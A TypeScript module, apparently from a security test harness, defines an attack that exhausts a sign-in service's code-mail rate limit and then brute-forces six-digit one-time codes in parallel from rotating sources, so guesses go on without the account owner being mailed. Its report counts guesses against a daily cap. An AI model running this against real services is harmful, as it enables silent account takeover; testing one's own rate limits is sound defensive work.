import type { Attack, AttackResult, Target } from './attack.ts';
import { askForCode, guessCode, strangers, victim } from './sign-in-requests.ts';

/** Requests that no mail answers, and guesses beside them. */
const parallel = 8;

/**
 * Requests whose limit is used up, and guesses at the same moment: a code that lives while its
 * request is refused could be guessed again and again, and nobody would get a mail.
 */
export const guessSignInCodes: Attack = {
  title: 'Guess the sign-in code of an address by requests that are refused',
  async run(target) {
    const email = victim();
    const from = strangers();
    let requests = await useUpMails(target, from(0));
    let compared = 0;
    let sent = 0;
    for (let round = 0; round < 150 && new Date() < target.until; round += 1) {
      const codeRequests = Array.from({ length: parallel }, () =>
        askForCode(target, email, from(0)),
      );
      const guesses = Array.from({ length: parallel }, (_, index) =>
        guessCode(target, email, { code: digits(round * parallel + index), from: from(1 + round) }),
      );
      const answers = await Promise.all(guesses);
      sent += (await Promise.all(codeRequests)).filter(
        ({ json }) => json?.data?.sent === true,
      ).length;
      compared += answers.filter(({ json }) => json?.code === 'OTP_INVALID').length;
      requests += 2 * parallel;
    }
    return outcome(requests, compared, sent);
  },
};

function outcome(requests: number, compared: number, sent: number): AttackResult {
  const withoutMail = sent === 0 && compared > 0;
  return {
    requests,
    observed: [`${compared} guesses were compared, ${sent} mails were sent to the address.`],
    gained: [
      ...(withoutMail ? [`${compared} guesses at a code that nobody was mailed.`] : []),
      ...(compared > 25 ? [`${compared} guesses where a day allows 25 for an address.`] : []),
    ],
  };
}

/** Requests codes for others until this network gets no more of them. */
async function useUpMails(target: Target, from: string | undefined): Promise<number> {
  for (let count = 1; count <= 15; count += 1) {
    const { status } = await askForCode(target, victim(), from);
    if (status === 429) return count;
  }
  return 15;
}

function digits(count: number): string {
  return String(count % 1_000_000).padStart(6, '0');
}
